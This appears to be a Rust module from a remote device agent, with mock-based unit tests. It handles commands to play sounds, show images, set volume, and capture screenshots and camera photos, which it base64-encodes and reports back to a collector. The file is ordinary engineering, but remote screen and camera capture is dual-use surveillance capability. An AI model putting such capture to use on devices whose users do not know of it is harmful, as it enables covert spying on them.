//! Sound, image, volume and capture actions

use super::{fire, report_async, CommandResult, HandlerContext};
use agent_shared::{Command, Payload};
use base64::{engine::general_purpose::STANDARD, Engine as _};
use tracing::warn;

const SCREENSHOT: &str = "screenshot";
const PICTURE: &str = "picture";

/// Substituted for a missing or unparsable `level`; always rejected
const INVALID_LEVEL: i32 = -1;
const DEFAULT_CAMERA: i32 = 0;

pub async fn play_sound(ctx: &HandlerContext, command: &Command) -> CommandResult {
    let url = command.param("url").unwrap_or_default();
    fire(&format!("play {}", url), ctx.caps.media.play_sound(url)).await
}

pub async fn show_image(ctx: &HandlerContext, command: &Command) -> CommandResult {
    let url = command.param("url").unwrap_or_default();
    fire(&format!("show_image {}", url), ctx.caps.media.show_image(url)).await
}

pub async fn set_volume(ctx: &HandlerContext, command: &Command) -> CommandResult {
    let level = command.int_param("level", INVALID_LEVEL);
    let Some(percent) = u8::try_from(level).ok().filter(|p| *p <= 100) else {
        warn!("[ROUTER] set_volume rejected: level {}", level);
        return CommandResult::Rejected {
            message: format!("level {} outside 0..=100", level),
        };
    };

    fire(&format!("set_volume {}", percent), ctx.caps.media.set_volume(percent)).await
}

pub fn screenshot(ctx: &HandlerContext) -> CommandResult {
    let capture = ctx.caps.capture.clone();
    report_async(
        ctx,
        SCREENSHOT,
        async move { capture.take_screenshot().await },
        |png| Payload::Blob(STANDARD.encode(png)),
    )
}

/// Camera id is passed through as given; the capture surface validates it
pub fn picture(ctx: &HandlerContext, command: &Command) -> CommandResult {
    let camera_id = command.int_param("camera_id", DEFAULT_CAMERA);
    let capture = ctx.caps.capture.clone();
    report_async(
        ctx,
        PICTURE,
        async move { capture.take_picture(camera_id).await },
        |jpeg| Payload::Blob(STANDARD.encode(jpeg)),
    )
}

#[cfg(test)]
mod tests {
    use super::super::testing::{command, harness, settle};
    use super::*;
    use agent_shared::PayloadClass;

    #[tokio::test]
    async fn test_picture_passes_camera_id() {
        let h = harness();
        settle(picture(&h.ctx, &command("picture", &[("camera_id", "7")]))).await;

        assert_eq!(h.device.calls(), vec!["take_picture:7"]);
        let events = h.collector.events();
        assert_eq!(events.len(), 1);
        assert_eq!(events[0].data_type, "picture");
        assert_eq!(events[0].class(), PayloadClass::Large);
        assert_eq!(events[0].payload, Payload::Blob(STANDARD.encode("jpeg:camera-7")));
    }

    #[tokio::test]
    async fn test_picture_invalid_camera_defaults() {
        let h = harness();
        settle(picture(&h.ctx, &command("picture", &[("camera_id", "front")]))).await;
        assert_eq!(h.device.calls(), vec!["take_picture:0"]);
    }

    #[tokio::test]
    async fn test_screenshot_failure() {
        let h = harness();
        h.device.fail("take_screenshot");

        settle(screenshot(&h.ctx)).await;

        assert_eq!(h.collector.data_types(), vec!["screenshot_error"]);
    }

    #[tokio::test]
    async fn test_set_volume() {
        let h = harness();
        let result = set_volume(&h.ctx, &command("set_volume", &[("level", "65")])).await;

        assert!(matches!(result, CommandResult::Completed { .. }));
        assert_eq!(h.device.volume(), Some(65));
        assert!(h.collector.events().is_empty());
    }

    #[tokio::test]
    async fn test_set_volume_rejects_bad_levels() {
        let h = harness();
        for params in [vec![], vec![("level", "loud")], vec![("level", "101")], vec![("level", "-5")]] {
            let result = set_volume(&h.ctx, &command("set_volume", &params)).await;
            assert!(matches!(result, CommandResult::Rejected { .. }));
        }
        assert_eq!(h.device.call_count("set_volume"), 0);
    }

    #[tokio::test]
    async fn test_play_sound() {
        let h = harness();
        play_sound(&h.ctx, &command("play", &[("url", "https://media.example/a.mp3")])).await;
        assert_eq!(h.device.calls(), vec!["play_sound:https://media.example/a.mp3"]);
    }
}
